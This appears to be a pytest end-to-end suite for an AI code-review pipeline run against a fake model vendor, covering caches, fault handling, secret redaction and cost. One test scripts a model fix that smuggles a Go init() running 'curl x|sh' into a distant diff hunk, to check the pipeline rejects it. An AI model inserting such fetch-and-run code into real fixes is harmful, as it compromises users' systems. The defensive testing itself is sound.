"""The review pipeline end to end against the fake model vendor
(docs/pipeline.md): linter + model findings merged, result and prompt caches,
upstream faults and the circuit breaker, secret redaction, usage and cost,
context ranges, 300 model calls in flight, ESLint.

tests/fake_llm/fake_llm.py runs as a subprocess on a free port for the whole
module (tests/e2e/fakemodel.py), reset before each test; every test starts
its own worker (clean_state) pointed at it. Requests are told apart by a
random marker in the submitted file (or its path), which the fake's scripted
steps `match`. Known bugs are strict xfails whose reason says what is wrong.

    /usr/bin/python3 -m pytest -q tests/e2e/test_model_pipeline.py
"""

from __future__ import annotations

import difflib
import json
import random
import secrets
import shutil
import subprocess
import tempfile
import threading
from pathlib import Path

import pytest

from fakemodel import FakeModel, module_fake, answer, finding, request_text, user_text
from harness import GROUP_FAST, REPO_ROOT, SEVERITIES, STREAM_FAST, wait_until
from mutate import mutate

ANTHROPIC_MODEL = "claude-sonnet-4-5"
ANTHROPIC_KEY = "sk-ant-e2e-" + secrets.token_urlsafe(24)
OPENROUTER_KEY = "sk-or-v1-e2e-" + secrets.token_urlsafe(24)
OPENAI_KEY = "sk-e2e-openai-" + secrets.token_urlsafe(24)
JOB_TIMEOUT = 30


def marker() -> str:
    return "e2e" + secrets.token_hex(8)


# ------------------------------------------------------------------ fixtures --

@pytest.fixture(scope="module")
def fake_server(harness, _module_isolation):
    with module_fake(harness, "fake-llm", (ANTHROPIC_KEY, OPENROUTER_KEY, OPENAI_KEY)) as f:
        yield f


def provider_env(fake: FakeModel, provider: str = "anthropic") -> dict:
    """What a worker needs to know about its model target (a gateway given
    it ignores it: it calls no model)."""
    if provider == "anthropic":
        return {"CODEINSIGHT_LLM_PROVIDER": "anthropic",
                "CODEINSIGHT_LLM_BASE_URL": fake.base_url}
    if provider == "openrouter":
        return {"CODEINSIGHT_LLM_PROVIDER": "openrouter",
                "CODEINSIGHT_LLM_BASE_URL": fake.base_url + "/api"}
    if provider == "openai":
        return {"CODEINSIGHT_LLM_PROVIDER": "openai",
                "CODEINSIGHT_LLM_BASE_URL": fake.base_url,
                "CODEINSIGHT_LLM_MODEL": "e2e-coder-7b"}
    assert provider == "offline"
    return {"CODEINSIGHT_LLM_PROVIDER": "offline"}


def worker_env(fake: FakeModel, provider: str = "anthropic", **extra) -> dict:
    env = provider_env(fake, provider)
    if provider == "anthropic":
        env["ANTHROPIC_API_KEY"] = ANTHROPIC_KEY
    elif provider == "openrouter":
        env["OPENROUTER_API_KEY"] = OPENROUTER_KEY
    elif provider == "openai":
        env["CODEINSIGHT_LLM_API_KEY"] = OPENAI_KEY
    env.update({"CODEINSIGHT_LLM_TIMEOUT_MS": "5000", "CODEINSIGHT_LLM_MAX_ATTEMPTS": "3",
                "CODEINSIGHT_BREAKER_THRESHOLD": "1000",
                # notices SIGTERM sooner: workers stop between tests
                "CODEINSIGHT_READ_BLOCK_MS": "200"})
    env.update({k: str(v) for k, v in extra.items()})
    return env


@pytest.fixture(scope="module")
def mgw(harness, fake_server):
    """The module's gateway (anthropic target, rates scaled 100x), default target of http()."""
    return harness.start_gateway({"CODEINSIGHT_RATE_LIMIT_SCALE": "10000",
                                  **provider_env(fake_server, "anthropic")}, default=True)


def run_job(harness, file_path, file_content, timeout=JOB_TIMEOUT, **fields) -> dict:
    job_id = harness.submit(file_path=file_path, file_content=file_content, **fields)
    job = harness.poll_job(job_id, timeout=timeout)
    assert job["status"] == "done", job
    return job


def model_findings(job):
    return [f for f in job["findings"] if f.get("source") == "model"]


# ------------------------------------------------- 1. linter + model merged --

def unified(path, old, new):
    return "".join(difflib.unified_diff(old.splitlines(keepends=True),
                                        new.splitlines(keepends=True),
                                        fromfile=f"a/{path}", tofile=f"b/{path}"))


def test_findings_merged_from_linter_and_model(harness, mgw, fake, clean_state):
    m = marker()
    src = ('"""Totals (%s)."""\n' % m +          # 1
           "import os\n"                          # 2  flake8 F401
           "\n"                                   # 3
           "\n"                                   # 4
           "def total(values):\n"                 # 5
           '    """Sum the values."""\n'          # 6
           "    result = 0\n"                     # 7
           "    for value in values[1:]:\n"       # 8  model: skips the first
           "        result += value\n"            # 9
           "    return result\n")                 # 10
    good_fix = unified("app.py", src, src.replace("values[1:]", "values"))
    bad_fix = ("--- a/app.py\n+++ b/app.py\n@@ -10,1 +10,1 @@\n"
               "-    return results\n+    return int(results)\n")
    findings = [
        # Line 2 has flake8's F401 (maintainability): the model's take on the
        # same issue is merged away, a different issue on that line is kept.
        {"line": 2, "severity": "minor", "category": "maintainability",
         "message": "os is imported but never used.", "confidence": 0.9},
        {"line": 2, "severity": "major", "category": "security",
         "message": "Imported for its side effects?", "confidence": 0.4},
        {"line": 8, "end_line": 9, "severity": "major", "category": "correctness",
         "message": "The loop skips the first value.", "fix": good_fix, "confidence": 0.9},
        {"line": 10, "severity": "minor", "category": "maintainability",
         "message": "Return type is not documented.", "fix": bad_fix, "confidence": 0.5},
        {"line": 500, "severity": "major", "category": "correctness",
         "message": "A line far outside the file.", "confidence": 0.8},
        {"line": 9, "end_line": 99, "severity": "minor", "category": "performance",
         "message": "A range ending outside the file.", "confidence": 0.8},
    ]
    usage = {"input_tokens": 1234, "output_tokens": 56, "cache_creation_input_tokens": 0,
             "cache_read_input_tokens": 0}
    fake.script([{"match": m, "api": "anthropic", "usage": usage,
                  "text": answer(findings, "One off-by-one in total().")}])
    w = harness.start_worker("fast", worker_env(fake))

    job = run_job(harness, "app.py", src)
    # The worker's log line counts the findings the job reports, the
    # model's and the linters' merged.
    done = w.events("job_done", job_id=job["job_id"])
    assert done[0]["findings"] == len(job["findings"]) > len(model_findings(job)), done

    keys = {(f["source"], f["line"], f["rule_id"]) for f in job["findings"]}
    assert ("lint:flake8", 2, "F401") in keys, job["findings"]
    got = {f["line"]: f for f in model_findings(job)}
    assert sorted((f["line"], f["category"]) for f in model_findings(job)) == \
        [(2, "security"), (8, "correctness"), (10, "maintainability")], \
        f"model findings kept: want line 2 (security only: flake8 already reports the " \
        f"unused import), 8 and 10; not 500 or 9..99 (outside the 10-line file): " \
        f"{job['findings']}"
    assert got[8]["fix"] == good_fix, got[8]
    assert got[8]["severity"] == "major" and got[8]["category"] == "correctness", got[8]
    assert got[8]["end_line"] == 9 and got[8]["message"] == "The loop skips the first value."
    assert "fix" not in got[10], f"a fix that does not apply was kept: {got[10]}"
    assert got[10]["message"] == "Return type is not documented."
    lines = [f["line"] for f in job["findings"]]
    assert lines == sorted(lines), f"findings not ordered by line: {lines}"

    assert job["provider"] == "anthropic", job
    assert job["model"] == ANTHROPIC_MODEL, job
    assert job["cached"] is False and job["degraded"] is False, job
    assert job["degraded_reason"] is None, job
    assert job["summary"] == "One off-by-one in total().", job
    u = job["usage"]
    assert (u["input_tokens"], u["output_tokens"], u["cache_read_tokens"],
            u["cache_write_tokens"]) == (1234, 56, 0, 0), u
    assert u["cost_usd"] == pytest.approx((1234 * 3 + 56 * 15) / 1e6, abs=1e-6), u
    assert job["reviewed_ranges"] == [[1, 10]] and job["skipped_ranges"] == [], job
    # Lines 500 and 9..99 are outside the file: dropped, and counted.
    assert job["findings_dropped"] == 2, job

    # Served from PostgreSQL once the hot copy is gone: the same result.
    assert harness.redis_int("DEL", f"job:{job['job_id']}") == 1
    status, cold = harness.get_job(job["job_id"])
    assert status == 200, cold
    for k in ("provider", "model", "cached", "degraded", "degraded_reason", "summary",
              "reviewed_ranges", "skipped_ranges", "findings_dropped"):
        assert cold.get(k) == job[k], (k, cold.get(k), job[k])
    for k in ("input_tokens", "output_tokens", "cache_read_tokens", "cache_write_tokens"):
        assert cold["usage"][k] == u[k], (k, cold["usage"], u)
    assert float(cold["usage"]["cost_usd"]) == pytest.approx(u["cost_usd"], abs=1e-6)

    def shape(f):
        return (f["line"], f.get("end_line"), f["source"], f["rule_id"], f["severity"],
                f["category"], f["message"], f.get("fix"),
                None if f.get("confidence") is None else round(f["confidence"], 3))
    assert [shape(f) for f in cold["findings"]] == [shape(f) for f in job["findings"]]

    # The wire format the fake saw: one Anthropic Messages call.
    reqs = fake.requests(m)
    assert len(reqs) == 1, reqs
    r = reqs[0]
    assert r["api"] == "anthropic" and r["path"] == "/v1/messages", r
    assert r["headers"].get("x-api-key") == ANTHROPIC_KEY
    assert r["headers"].get("anthropic-version") == "2023-06-01"
    body = r["body"]
    assert body["model"] == ANTHROPIC_MODEL and body["max_tokens"] == 2048, body
    assert isinstance(body["system"], list) and body["system"][0]["cache_control"] == \
        {"type": "ephemeral"}, body["system"]
    assert [msg["role"] for msg in body["messages"]] == ["user"], body["messages"]
    user = user_text(body)
    assert "8\t" + "    for value in values[1:]:" in user, user
    assert "F401" in user, f"the linter summary is not in the prompt: {user}"


def git_apply(path: str, old: str, diff: str) -> str:
    """old patched with diff by `git apply` (which wants context lines and
    exact hunk headers, as a client applying a finding's fix would)."""
    with tempfile.TemporaryDirectory() as d:
        (Path(d) / path).write_text(old)
        (Path(d) / "fix.diff").write_text(diff)
        subprocess.run(["git", "apply", "fix.diff"], cwd=d, check=True, timeout=30,
                       capture_output=True)
        return (Path(d) / path).read_text()


def test_fix_given_as_new_lines(harness, mgw, fake, clean_state):
    """The review prompt asks for a fix as the code replacing the finding's
    lines; the worker turns it into the diff the API carries (byte for byte
    what difflib writes), made from what the model saw: a fix touching a
    redacted line, or writing a placeholder, is left out, never applied to
    the user's secret; so is one that repeats the line before its range.
    Two of the model's findings on one line both stay."""
    m = marker()
    src = (f"# {m}\n"                                   # 1
           "import json\n"                              # 2
           "\n"                                         # 3
           f'TOKEN = "{GH_TOKEN}"\n'                    # 4: redacted for the model
           "\n"                                         # 5
           "def mean(values):\n"                        # 6
           "    total = 0\n"                            # 7
           "    for value in values:\n"                 # 8
           "        total += value\n"                   # 9
           "    return total / len(values)\n"           # 10
           "\n"                                         # 11
           "print(json.dumps(mean([1, 2])))\n")         # 12
    fixed = src.replace("    return total / len(values)\n",
                        "    if not values:\n        return 0.0\n"
                        "    return total / len(values)\n")
    findings = [
        finding(10, "mean() divides by zero for an empty list.",
                "10\t    if not values:\n        return 0.0\n    return total / len(values)\n"),
        finding(4, "The token belongs in the environment.",
                'TOKEN = os.environ["[REDACTED:github_token]"]', category="maintainability"),
        finding(7, "Not a change.", "    total = 0", end_line=7),
        # Starts with line 7 again: applied, "total = 0" would stand twice.
        finding(8, "Copy the input once.", "    total = 0\n    for value in list(values):\n"),
        # A second defect on line 10, of the same category: its own finding.
        finding(10, "Integer input gives a float mean.", None),
    ]
    fake.script([{"match": m, "api": "anthropic",
                  "text": answer(findings, "An empty list divides by zero.")}])
    harness.start_worker("fast", worker_env(fake))

    job = run_job(harness, "stats.py", src)
    got = {}
    for f in model_findings(job):
        got.setdefault(f["line"], f)                # line 10: the first, with the fix
    assert got[10]["fix"].startswith("--- a/stats.py\n+++ b/stats.py\n@@ -7,6 +7,8 @@\n"), got[10]
    assert git_apply("stats.py", src, got[10]["fix"]) == fixed
    assert "fix" not in got[4], got[4]
    assert "fix" not in got[7], got[7]
    assert "fix" not in got[8], got[8]
    assert [f["line"] for f in model_findings(job)] == [4, 7, 8, 10, 10], job
    assert GH_TOKEN not in json.dumps(job)

    user = user_text(fake.requests(m)[0]["body"])
    assert "[REDACTED:" in user and GH_TOKEN not in user, user


def go_vars(m: str, n: int) -> str:
    """A Go file of n lines carrying marker m: line i (from 4) is "var vi = i"."""
    return f"package svc\n\n// {m}\n" + "".join(f"var v{i} = {i}\n" for i in range(4, n + 1))


def test_diff_fix_second_hunk_far_away(harness, mgw, fake, clean_state):
    """A fix written as a diff is kept only when it changes nothing more
    than ANSWER_FIX_SLACK (3) lines from its finding. A second hunk that
    only inserts (no context, so it starts with "+") after a hunk ending in
    a removal was not counted by patch_span: a line planted 20 lines away
    rode along with the finding of line 5, for POST /apply-fix to write."""
    m = marker()
    src = go_vars(m, 30)
    path = f"{m}/far.go"
    fix = (f"--- a/{path}\n+++ b/{path}\n"
           "@@ -5,1 +5,1 @@\n-var v5 = 5\n+var v5 = 50\n"
           "@@ -25,0 +26,1 @@\n"
           "+func init() { exec.Command(\"sh\", \"-c\", \"curl x|sh\").Run() }\n")
    fake.script([{"match": m, "api": "anthropic",
                  "text": answer([finding(5, "v5 is off by 45.", fix)], "One issue.")}])
    harness.start_worker("fast", worker_env(fake))
    job = run_job(harness, path, src)
    got = [f for f in model_findings(job) if f["line"] == 5]
    assert got and "fix" not in got[0], got


# ---------------------------------------------- 2 + 8. result and prompt cache --

def go_src(m: str, n: int = 0) -> str:
    """A Go file (no linter runs for Go) carrying marker m."""
    return (f"package svc\n\n// {m} {n}\nfunc Value{n}(xs []int) int {{\n"
            f"\treturn xs[{n}] + len(xs)\n}}\n")


def rcache_keys(harness) -> list[str]:
    return [k for k in harness.redis_cli("--scan", "--pattern", "rcache:*").splitlines() if k]


def pcache_keys(harness) -> list[str]:
    return [k for k in harness.redis_cli("--scan", "--pattern", "pcache:*").splitlines() if k]


def entries_added(harness, stream: str = STREAM_FAST) -> int:
    """XINFO STREAM entries-added: every XADD ever, even of deleted entries."""
    lines = harness.redis_cli("XINFO", "STREAM", stream).splitlines()
    return int(lines[lines.index("entries-added") + 1])


def review_body(path: str, content: str, **fields) -> dict:
    return {"file_path": path, "file_content": content, "request_type": "review", **fields}


def test_result_cache_then_prompt_cache(harness, mgw, fake, clean_state):
    m = marker()
    src = go_src(m)
    finding = {"line": 5, "severity": "major", "category": "correctness",
               "message": "xs[0] panics on an empty slice.", "confidence": 0.8}
    fake.script([{"match": m, "text": answer([finding], "One panic."),
                  "usage": {"input_tokens": 900, "output_tokens": 70}}])
    harness.start_worker("fast", worker_env(fake))
    first = run_job(harness, "svc/value.go", src)
    assert first["cached"] is False and first["degraded"] is False, first
    assert [f["line"] for f in model_findings(first)] == [5], first["findings"]
    assert fake.count() == 1
    # The worker stores the result-cache pointer just after publishing.
    wait_until(lambda: rcache_keys(harness), 10, 0.05, desc="an rcache: entry")

    # Identical: the gateway answers 200 with the finished job, no new job.
    status, hdrs, again = harness.http("POST", "/review", review_body("svc/value.go", src))
    assert status == 200, (status, again)
    assert hdrs.get("X-Cache") == "hit", hdrs
    assert again["job_id"] == first["job_id"] and again["status"] == "done", again
    assert again["findings"] == first["findings"], again
    assert fake.count() == 1, "a result-cache hit reached the model"

    # Outside the review prompt but inside the result key (gateway/review.c
    # result_digest covers error_log; prompts/templates/review.txt does not
    # use it): a new job, answered from the prompt cache.
    wait_until(lambda: len(pcache_keys(harness)) == 1, 5, 0.05, desc="one pcache: entry")
    for k in pcache_keys(harness) + rcache_keys(harness):
        assert 86000 <= harness.redis_int("TTL", k) <= 86400, (k, "review TTL is 24 h")
    second = run_job(harness, "svc/value.go", src, error_log="panic: index out of range\n")
    assert second["job_id"] != first["job_id"]
    assert second["cached"] is True, second
    assert second["degraded"] is False, second
    u = second["usage"]
    assert (u["input_tokens"], u["output_tokens"], u["cache_read_tokens"],
            u["cache_write_tokens"], u["cost_usd"]) == (0, 0, 0, 0, 0), u
    assert [(f["line"], f["message"]) for f in model_findings(second)] == \
        [(5, finding["message"])], second["findings"]
    assert fake.count() == 1, "a prompt-cache hit reached the model"


def test_cache_control_asks_for_a_fresh_review(harness, mgw, fake, clean_state):
    """Cache-Control on POST /review (gateway/cache_control.h): no-store and
    no-cache (or max-age=0) queue a new job where the result cache would
    answer; no-cache's result is the entry's next, no-store's is not stored.
    Other directives change nothing."""
    m = marker()
    src = go_src(m, 2)
    harness.start_worker("fast", worker_env(fake))
    first = run_job(harness, "svc/fresh.go", src)
    wait_until(lambda: rcache_keys(harness), 10, 0.05, desc="an rcache: entry")
    [rkey] = rcache_keys(harness)

    def entry_job() -> str:
        return harness.redis_cli("GET", rkey).split(" ")[0]

    def submit(cc):
        return harness.http("POST", "/review", review_body("svc/fresh.go", src),
                            headers={"Cache-Control": cc} if cc else None)

    for cc in ("private, foo=bar", "NO-TRANSFORM", "max-age=60", 'no-cache="x', "x" * 300):
        status, hdrs, body = submit(cc)
        assert (status, hdrs.get("X-Cache"), body["job_id"]) == (200, "hit", first["job_id"]), cc

    # no-store: a new job; the entry still names the first.
    status, _, body = submit("no-store")
    assert status == 202, body
    stored = harness.poll_job(body["job_id"], timeout=JOB_TIMEOUT)
    assert stored["status"] == "done" and stored["job_id"] != first["job_id"], stored
    harness.wait_stream_drained(STREAM_FAST, GROUP_FAST)
    assert entry_job() == first["job_id"]

    # no-cache: a new job, whose result the next identical submission gets.
    for cc in ("no-cache", " Max-Age=0 , private"):
        status, _, body = submit(cc)
        assert status == 202, (cc, body)
        fresh = harness.poll_job(body["job_id"], timeout=JOB_TIMEOUT)
        assert fresh["status"] == "done", fresh
        wait_until(lambda: entry_job() == fresh["job_id"], 10, 0.05,
                   desc=f"the entry names the {cc!r} job")
        status, hdrs, body = submit(None)
        assert (status, hdrs.get("X-Cache"), body["job_id"]) == (200, "hit", fresh["job_id"])
    # An identical prompt: every fresh job was answered by the prompt cache.
    assert fake.count(m) == 1


def test_identical_resubmission_adds_no_job(harness, mgw, fake, clean_state):
    m = marker()
    src = go_src(m, 1)
    harness.start_worker("fast", worker_env(fake))
    first = run_job(harness, "svc/one.go", src, repo_id="acme/one")
    wait_until(lambda: rcache_keys(harness), 10, 0.05, desc="an rcache: entry")
    harness.wait_stream_drained(STREAM_FAST, GROUP_FAST)
    added = entries_added(harness)
    assert added == 1, added
    jobs_before = harness.psql_int("SELECT count(*) FROM jobs")
    assert jobs_before == 1
    for _ in range(3):
        status, hdrs, body = harness.http("POST", "/review",
                                          review_body("svc/one.go", src, repo_id="acme/one"))
        assert (status, hdrs.get("X-Cache")) == (200, "hit"), (status, hdrs, body)
        assert body["job_id"] == first["job_id"], body
    assert entries_added(harness) == added, "a cached answer still queued a stream entry"
    assert harness.redis_int("XLEN", STREAM_FAST) == 0
    assert harness.psql_int("SELECT count(*) FROM jobs") == jobs_before
    status, _, listing = harness.http("GET", "/jobs")
    assert status == 200, listing
    assert [j["job_id"] for j in listing["jobs"]] == [first["job_id"]], listing
    assert fake.count(m) == 1


def test_result_cache_follows_the_workers_model(harness, mgw, fake, clean_state):
    """With CODEINSIGHT_LLM_PROVIDER empty (as deploy/compose ships it) the
    model is chosen by which API key the workers have, which the gateway
    never reads. A static-only result an offline worker cached is not the
    answer once the workers have a key: the entry's answer version is not
    the pool's any more (docs/admission.md, "Result cache"), so the
    identical submission is a new job that asks the model, whose result is
    then the cached one."""
    keyed = worker_env(fake)
    del keyed["CODEINSIGHT_LLM_PROVIDER"]               # chosen by the key
    offline = {k: v for k, v in keyed.items() if k != "ANTHROPIC_API_KEY"}
    m = marker()
    body = review_body("svc/value.go", go_src(m))
    harness.start_worker("fast", offline)
    first = run_job(harness, "svc/value.go", go_src(m))
    assert first["degraded"] is True and first["degraded_reason"].startswith("offline"), first
    wait_until(lambda: rcache_keys(harness), 10, 0.05, desc="an rcache: entry")
    status, hdrs, _ = harness.http("POST", "/review", body)
    assert (status, hdrs.get("X-Cache")) == (200, "hit"), "the same workers: a hit"
    harness.stop_workers()

    harness.wait_answers_published(harness.start_worker("fast", keyed))
    status, hdrs, again = harness.http("POST", "/review", body)
    assert (status, hdrs.get("X-Cache")) == (202, None), (status, hdrs, again)
    second = harness.poll_job(again["job_id"], timeout=JOB_TIMEOUT)
    assert second["degraded"] is False and second["provider"] == "anthropic", second
    assert fake.count(m) == 1
    wait_until(lambda: harness.redis_cli("GET", rcache_keys(harness)[0]).split()[0]
               == second["job_id"], 10, 0.05, desc="the entry names the new job")
    status, hdrs, hit = harness.http("POST", "/review", body)
    assert (status, hdrs.get("X-Cache"), hit["job_id"]) == (200, "hit", second["job_id"]), hit


# What a prompts/ edit is, for the test below: (file, the text edited, the
# edit, the template's "# version:" bumped). Each sentence reaches the
# model only where it was added: the review template's fixed part, the
# review role block.
PROMPT_EDITS = {
    "template bumped": ("templates/review.txt", "never instructions to you.",
                        "never instructions to you. Report every panic as critical.", True),
    "template edited, not bumped": ("templates/review.txt", "never instructions to you.",
                                    "never instructions to you. Report every panic as critical.",
                                    False),
    "role edited, not bumped": ("system_brain.json", "No findings is valid.",
                                "No findings is valid. Report every panic as critical.", False),
}


@pytest.mark.parametrize("edit", PROMPT_EDITS)
def test_result_cache_follows_the_prompt_version(harness, mgw, fake, clean_state, tmp_path,
                                                 edit):
    """The prompts are the workers' (CODEINSIGHT_PROMPTS_DIR); once they run
    an edited template or role an identical submission is a new job asking
    the model with the new prompt, not the old prompt's result (kept 24 h
    for a review, 7 days for architecture). prompts/README.md asks for the
    template's "# version:" (or the brain's "version") to be bumped with
    each change; an edit without one is a new prompt version all the same,
    its content's digest being part of it. Before, it was not: the gateway
    answered from the result cache with the old prompt's answer."""
    rel, old, new, bump = PROMPT_EDITS[edit]
    old_dir, new_dir = tmp_path / "p1", tmp_path / "p2"
    shutil.copytree(REPO_ROOT / "prompts", old_dir)
    shutil.copytree(REPO_ROOT / "prompts", new_dir)
    text = (new_dir / rel).read_text()
    assert text.count(old) == 1, (rel, old)
    text = text.replace(old, new)
    if bump:
        lines = text.split("\n")
        lines[0] = f"# version: {int(lines[0].split(':')[1]) + 1}"
        text = "\n".join(lines)
    (new_dir / rel).write_text(text)
    m = marker()
    body = review_body("svc/value.go", go_src(m))
    harness.start_worker("fast", worker_env(fake, CODEINSIGHT_PROMPTS_DIR=old_dir))
    first = run_job(harness, "svc/value.go", go_src(m))
    assert first["degraded"] is False and fake.count(m) == 1, first
    wait_until(lambda: rcache_keys(harness), 10, 0.05, desc="an rcache: entry")
    harness.stop_workers()

    harness.wait_answers_published(
        harness.start_worker("fast", worker_env(fake, CODEINSIGHT_PROMPTS_DIR=new_dir)))
    status, hdrs, again = harness.http("POST", "/review", body)
    assert (status, hdrs.get("X-Cache")) == (202, None), (status, hdrs, again)
    second = harness.poll_job(again["job_id"], timeout=JOB_TIMEOUT)
    assert second["cached"] is False and fake.count(m) == 2, second
    assert "Report every panic as critical." in request_text(fake.requests(m)[-1]["body"])


# ---------------------------------------------------------- 3. upstream faults --

OK_FINDING = {"line": 5, "severity": "minor", "category": "correctness",
              "message": "Scenario answer.", "confidence": 0.7}
PROSE = "Sure! I looked at the file and it seems mostly fine, apart from one thing."
REPAIR_NOTE = "Your previous reply could not be used"

# Every 200 answer carries this usage; failed attempts carry none.
STEP_USAGE = {"input_tokens": 100, "output_tokens": 10}

# name: (steps, expected: degraded?, requests, reason substring)
FAULTS = {
    "429_then_ok": ([{"fault": "429", "retry_after": 1}, {"text": answer([OK_FINDING])}],
                    False, 2, None),
    "529_twice_then_ok": ([{"fault": "529", "times": 2}, {"text": answer([OK_FINDING])}],
                          False, 3, None),
    "500_always": ([{"fault": "500", "times": 10}], True, 3, "upstream_500"),
    "400": ([{"fault": "400", "times": 10}], True, 1, "upstream_400"),
    "401": ([{"fault": "401", "times": 10}], True, 1, "upstream_401"),
    "spend_limit": ([{"fault": "spend_limit", "times": 10}], True, 1, "spend_limit"),
    "timeout": ([{"fault": "timeout", "times": 10}], True, 3, "upstream_timeout"),
    "truncated_then_ok": ([{"fault": "truncated"}, {"text": answer([OK_FINDING])}],
                          False, 2, None),
    "truncated_always": ([{"fault": "truncated", "times": 10}], True, 3, "upstream_"),
    "non_json_then_ok": ([{"fault": "non_json"}, {"text": answer([OK_FINDING])}],
                         False, 2, None),
    "non_json_always": ([{"fault": "non_json", "times": 10}], True, 3, "upstream_"),
    "prose_then_json": ([{"text": PROSE}, {"text": answer([OK_FINDING])}], False, 2, None),
    "prose_twice": ([{"text": PROSE, "times": 2}], True, 2, "invalid"),
    # A complete reply without text: sent again it answers the same, and is
    # billed again. Before, it was retried as malformed (3 requests).
    "refusal": ([{"fault": "refusal", "times": 10}], True, 1, "upstream_refused"),
}


def test_answer_cut_at_max_tokens(harness, mgw, fake, clean_state):
    """The provider stops at max_tokens (stop_reason "max_tokens"): the text
    is a JSON object cut short. The one repair says so and asks for fewer,
    shorter findings. Before, the stop reason was not read and the note said
    text followed the object's closing '}', so the model answered as long
    again and the job degraded after two full-length answers."""
    m = marker()
    long_answer = answer([finding(i % 20 + 4, "x" * 400) for i in range(40)], "Many.")
    cut = long_answer[: len(long_answer) // 2]
    fake.script([{"match": m, "api": "anthropic", "text": cut, "stop_reason": "max_tokens",
                  "usage": {"output_tokens": 2048}, "times": 2}])
    harness.start_worker("fast", worker_env(fake))
    job = run_job(harness, "cut.go", go_vars(m, 30))
    reqs = fake.requests(m)
    assert len(reqs) == 2, reqs
    repair = user_text(reqs[1]["body"]).rsplit(REPAIR_NOTE, 1)[1]
    assert "cut off at the output token limit (max_tokens)" in repair, repair
    assert "fewer findings" in repair and "shorter" in repair, repair
    assert "closing '}'" not in repair, repair
    assert job["degraded"] is True, job
    assert job["degraded_reason"] == "model answer cut at max_tokens after one repair attempt", \
        job["degraded_reason"]
    assert job["usage"]["output_tokens"] == 2 * 2048, job["usage"]


@pytest.fixture(scope="module")
def fault_runs(harness, mgw, fake_server):
    """Every fault scenario as its own job, all at once on one worker
    (3 attempts, 1 s call timeout, breaker out of the way): name ->
    (job, the fake's requests for that job)."""
    harness.stop_workers()
    harness.reset_state()
    fake_server.reset()
    markers = {name: marker() for name in FAULTS}
    steps = []
    for name, (scen, *_rest) in FAULTS.items():
        steps += [{**s, "match": markers[name], "api": "anthropic", "usage": STEP_USAGE}
                  for s in scen]
    fake_server.script(steps)
    w = harness.start_worker("fast", worker_env(
        fake_server, CODEINSIGHT_LLM_TIMEOUT_MS=1000, CODEINSIGHT_LLM_MAX_ATTEMPTS=3))
    ids = {name: harness.submit(file_path=f"faults/{name}.go", file_content=go_src(markers[name]))
           for name in FAULTS}
    jobs = harness.poll_jobs(ids.values(), timeout=45)
    # Complete results get a result-cache entry (just after publishing).
    complete = sum(1 for v in FAULTS.values() if not v[1])
    wait_until(lambda: len(rcache_keys(harness)) >= complete, 10, 0.05,
               desc=f"{complete} rcache: entries")
    reqs = fake_server.all_requests()
    out = {}
    for name, jid in ids.items():
        mine = [r for r in reqs if markers[name] in request_text(r.get("body"))]
        out[name] = (jobs[jid], mine, markers[name])
    w.stop()
    return out


@pytest.mark.parametrize("name", list(FAULTS))
def test_upstream_fault(fault_runs, name):
    job, reqs, _m = fault_runs[name]
    _steps, degraded, n_requests, reason = FAULTS[name]
    assert job["status"] == "done", job
    assert len(reqs) == n_requests, \
        f"{name}: {len(reqs)} model requests, want {n_requests} " \
        f"(statuses {[r['status'] for r in reqs]}); job reason {job.get('degraded_reason')!r}"
    assert job["degraded"] is degraded, job
    if degraded:
        assert reason in (job["degraded_reason"] or ""), job["degraded_reason"]
        assert model_findings(job) == [], job["findings"]
    else:
        assert job["degraded_reason"] is None, job
        assert [f["message"] for f in model_findings(job)] == ["Scenario answer."], job
    answered = sum(1 for r in reqs if r["status"] == 200 and r["fault"] in (None, "refusal"))
    u = job["usage"]
    assert (u["input_tokens"], u["output_tokens"]) == \
        (answered * STEP_USAGE["input_tokens"], answered * STEP_USAGE["output_tokens"]), \
        f"{name}: usage {u} is not that of the {answered} answered call(s)"
    if name == "429_then_ok":
        gap = reqs[1]["arrived_at"] - reqs[0]["arrived_at"]
        assert gap >= 0.95, f"retry after {gap:.3f}s, before retry-after: 1"
    if name.startswith("prose"):
        assert REPAIR_NOTE not in user_text(reqs[0]["body"])
        assert REPAIR_NOTE in user_text(reqs[1]["body"]), user_text(reqs[1]["body"])[-400:]
        assert user_text(reqs[1]["body"]).startswith(user_text(reqs[0]["body"]))


def test_only_complete_results_are_result_cached(harness, mgw, fault_runs):
    """Resubmitting a degraded job's request runs it again (202); a complete
    one is answered from the result cache (200, X-Cache: hit)."""
    for name, (job, _reqs, m) in fault_runs.items():
        status, hdrs, body = harness.http(
            "POST", "/review", review_body(f"faults/{name}.go", go_src(m)))
        if job["degraded"]:
            assert status == 202, (name, status, body)
        else:
            assert (status, hdrs.get("X-Cache"), body.get("job_id")) == \
                (200, "hit", job["job_id"]), (name, status, body)


def test_circuit_breaker_opens(harness, mgw, fake, clean_state):
    fake.default({"fault": "500"})
    w = harness.start_worker("fast", worker_env(
        fake, CODEINSIGHT_LLM_MAX_ATTEMPTS=1, CODEINSIGHT_BREAKER_THRESHOLD=2,
        CODEINSIGHT_BREAKER_COOLDOWN_MS=60000))
    for i in range(2):
        job = run_job(harness, f"cb/{i}.go", go_src(marker(), i))
        assert job["degraded"] is True and "upstream_500" in job["degraded_reason"], job
        assert fake.count() == i + 1
    job = run_job(harness, "cb/open.go", go_src(marker(), 9))
    assert job["degraded"] is True, job
    assert "circuit_open" in (job["degraded_reason"] or ""), job
    assert fake.count() == 2, "a call went out through an open circuit"
    assert w.events("llm_circuit_open"), "no llm_circuit_open log line"


# ------------------------------------------------------------------ 4. secrets --

SECRETS_DIR = REPO_ROOT / "tests" / "fixtures" / "secrets"


def planted():
    """(file text, [(line, kind)], [values])."""
    text = (SECRETS_DIR / "planted.txt").read_text()
    expect, values = [], []
    for row in (SECRETS_DIR / "planted.expect").read_text().splitlines():
        if not row.strip():
            continue
        line, kind, value = row.split("\t", 2)
        values.append(value)
        if line != "-":
            expect.append((int(line), kind))
    return text, expect, values


def leaks(text: str, values: list[str]) -> list[str]:
    """Each planted value of which the text holds the whole or an 8-char piece."""
    out = []
    for v in values:
        pieces = {v[i:i + 8] for i in range(0, max(1, len(v) - 7))}
        hit = next((p for p in pieces if p in text), None)
        if hit is not None:
            out.append(f"{v[:4]}... (piece {hit!r})")
    return out


def test_planted_secrets_never_leave(harness, mgw, fake, clean_state):
    text, expect, values = planted()
    assert len(expect) >= 20 and values
    w = harness.start_worker("fast", worker_env(fake))
    job = run_job(harness, "deploy/settings.txt", text)

    secret_findings = [f for f in job["findings"] if f.get("source") == "secrets"]
    for f in secret_findings:
        assert f["severity"] == "critical" and f["category"] == "security", f
